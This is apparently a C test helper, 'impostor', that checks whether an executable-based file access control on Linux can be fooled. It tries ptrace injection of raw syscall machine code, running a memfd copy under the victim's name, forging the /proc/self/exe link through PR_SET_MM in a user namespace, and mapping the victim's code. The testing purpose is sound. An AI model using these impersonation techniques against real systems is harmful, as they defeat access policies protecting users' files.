/* impostor HOW VICTIM FILE: opens FILE from a process that seems to run VICTIM but does not run its code. Exits with 0
 * when it got FILE's content, 1 when the open was refused, 3 when the trick itself did not work.
 *
 *   inject   VICTIM is started and traced, system calls are written over its first instructions, it is let go
 *   attach   the same, and the tracer stays
 *   memfd    a copy of this program runs from memory, under VICTIM's name
 *   forge    a child in a user namespace of its own, which shares our memory, tells the kernel that our program is VICTIM
 *   here     no trick: FILE is opened by this program
 *   map      VICTIM's code is mapped by this program, which opens FILE */
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

enum { REFUSED = 1, NO_TRICK = 3 };

static int failed(const char *what)
{
    perror(what);
    return NO_TRICK;
}

static int open_here(const char *file)
{
    char byte;
    int fd = open(file, O_RDONLY);
    if (fd < 0)
        perror(file);
    return fd >= 0 && read(fd, &byte, 1) == 1 ? 0 : REFUSED;
}

/* --- code written into a traced process ------------------------------------------------------------------------------ */

#if defined(__x86_64__)
/* openat(AT_FDCWD, rsi, O_RDONLY); exit(rax < 0) */
static const uint8_t code[] = {
    0x48, 0xc7, 0xc7, 0x9c, 0xff, 0xff, 0xff, /* mov $-100,%rdi */
    0x31, 0xd2,                               /* xor %edx,%edx */
    0xb8, 0x01, 0x01, 0x00, 0x00,             /* mov $257,%eax */
    0x0f, 0x05,                               /* syscall */
    0x89, 0xc7,                               /* mov %eax,%edi */
    0xc1, 0xef, 0x1f,                         /* shr $31,%edi */
    0xb8, 0xe7, 0x00, 0x00, 0x00,             /* mov $231,%eax */
    0x0f, 0x05,                               /* syscall */
};

static int inject(const char *victim, const char *file, int stay)
{
    struct user_regs_struct regs;
    uint8_t words[(sizeof code + 7) / 8 * 8] = {0};
    char name[256] = "";
    int status;
    pid_t child = fork();
    if (child == 0) {
        ptrace(PTRACE_TRACEME, 0, NULL, NULL);
        execl(victim, victim, (char *)NULL);
        _exit(NO_TRICK);
    }
    if (waitpid(child, &status, 0) != child || !WIFSTOPPED(status) || ptrace(PTRACE_GETREGS, child, NULL, &regs) < 0)
        return failed("trace");
    memcpy(words, code, sizeof code);
    snprintf(name, sizeof name, "%s", file);
    for (size_t i = 0; i < sizeof words; i += 8)
        if (ptrace(PTRACE_POKETEXT, child, regs.rip + i, *(const long *)(words + i)) < 0)
            return failed("write code");
    uint64_t place = (regs.rsp - 4096) & ~UINT64_C(15);
    for (size_t i = 0; i < sizeof name; i += 8)
        if (ptrace(PTRACE_POKEDATA, child, place + i, *(const long *)(name + i)) < 0)
            return failed("write name");
    regs.rsi = place;
    if (ptrace(PTRACE_SETREGS, child, NULL, &regs) < 0 ||
        ptrace(stay ? PTRACE_CONT : PTRACE_DETACH, child, NULL, NULL) < 0)
        return failed("let go");
    while (waitpid(child, &status, 0) == child && WIFSTOPPED(status))
        ptrace(PTRACE_CONT, child, NULL, NULL);
    return WIFEXITED(status) ? WEXITSTATUS(status) : NO_TRICK;
}
#else
static int inject(const char *victim, const char *file, int stay)
{
    (void)victim;
    (void)file;
    (void)stay;
    errno = ENOSYS;
    return failed("inject");
}
#endif

/* --- a program that is in memory --------------------------------------------------------------------------------------- */

static int run_memory(const char *victim, const char *file)
{
    char bytes[65536];
    int own = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int memory = memfd_create(strrchr(victim, '/') ? strrchr(victim, '/') + 1 : victim, MFD_CLOEXEC);
    ssize_t n;
    while ((n = read(own, bytes, sizeof bytes)) > 0)
        if (write(memory, bytes, (size_t)n) != n)
            return failed("copy");
    prctl(PR_SET_NAME, "cat");
    fexecve(memory, (char *[]){(char *)victim, "here", (char *)victim, (char *)file, NULL}, (char *[]){NULL});
    return failed("fexecve");
}

/* --- a forged link to the program -------------------------------------------------------------------------------------- */

struct forgery {
    const char *victim;
    int result;
};

/* Our own code must be mapped from another file by now: the kernel refuses while the old program is. So this runs in a
 * copy of it, made by leave_program(). */
static int forge_from_namespace(void *ctx)
{
    struct forgery *f = ctx;
    struct prctl_mm_map map = {0};
    int fd = open(f->victim, O_RDONLY | O_CLOEXEC);
    FILE *stat = fopen("/proc/self/stat", "re");
    char line[4096], *at = NULL;
    if (stat && fgets(line, sizeof line, stat))
        at = strrchr(line, ')');
    unsigned long long v[53] = {0};
    for (int i = 3; at && i <= 52; i++) {
        at = strchr(at, ' ');
        if (at)
            v[i] = strtoull(++at, NULL, 10);
    }
    map.start_code = v[26];
    map.end_code = v[27];
    map.start_stack = v[28];
    map.start_data = v[45];
    map.end_data = v[46];
    map.start_brk = v[47];
    map.brk = (uint64_t)(uintptr_t)sbrk(0);
    map.arg_start = v[48];
    map.arg_end = v[49];
    map.env_start = v[50];
    map.env_end = v[51];
    map.exe_fd = (uint32_t)fd;
    f->result = prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) < 0 ? errno : 0;
    return 0;
}

/* Puts anonymous memory with the same content in the place of each mapping of our program. */
static int leave_program(void)
{
    char exe[4096], line[8192];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    FILE *maps = fopen("/proc/self/maps", "re");
    struct {
        uintptr_t start, end;
        int protection;
    } parts[16];
    int n_parts = 0;
    if (n < 0 || !maps)
        return -1;
    exe[n] = '\0';
    while (fgets(line, sizeof line, maps) && n_parts < 16) {
        char flags[5];
        unsigned long start, end;
        if (!strstr(line, exe) || sscanf(line, "%lx-%lx %4s", &start, &end, flags) != 3)
            continue;
        parts[n_parts].start = start;
        parts[n_parts].end = end;
        parts[n_parts++].protection =
            (flags[0] == 'r' ? PROT_READ : 0) | (flags[1] == 'w' ? PROT_WRITE : 0) | (flags[2] == 'x' ? PROT_EXEC : 0);
    }
    fclose(maps);
    for (int i = 0; i < n_parts; i++) {
        size_t size = parts[i].end - parts[i].start;
        char *copy = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (copy == MAP_FAILED)
            return -1;
        memcpy(copy, (void *)parts[i].start, size);
        if (mprotect(copy, size, parts[i].protection) < 0 ||
            mremap(copy, size, size, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)parts[i].start) == MAP_FAILED)
            return -1;
    }
    return n_parts > 0 ? 0 : -1;
}

static int forge(const char *victim, const char *file)
{
    static char stack[65536] __attribute__((aligned(16)));
    struct forgery f = {.victim = victim, .result = -1};
    char exe[4096] = "", real[4096] = "";
    if (leave_program() < 0)
        return failed("leave the program");
    pid_t child =
        clone(forge_from_namespace, stack + sizeof stack, CLONE_VM | CLONE_VFORK | CLONE_NEWUSER | SIGCHLD, &f);
    if (child < 0 || waitpid(child, NULL, 0) != child)
        return failed("clone");
    errno = f.result;
    if (f.result)
        return failed("forge");
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0 || !realpath(victim, real) || strcmp(exe, real) != 0)
        return failed("the link was not forged");
    return open_here(file);
}

int main(int argc, char **argv)
{
    if (argc != 4)
        return NO_TRICK;
    const char *how = argv[1], *victim = argv[2], *file = argv[3];
    if (strcmp(how, "here") == 0)
        return open_here(file);
    if (strcmp(how, "inject") == 0 || strcmp(how, "attach") == 0)
        return inject(victim, file, how[0] == 'a');
    if (strcmp(how, "memfd") == 0)
        return run_memory(victim, file);
    if (strcmp(how, "forge") == 0)
        return forge(victim, file);
    if (strcmp(how, "map") == 0) {
        int fd = open(victim, O_RDONLY | O_CLOEXEC);
        if (mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0) == MAP_FAILED)
            return failed("map");
        return open_here(file);
    }
    return NO_TRICK;
}
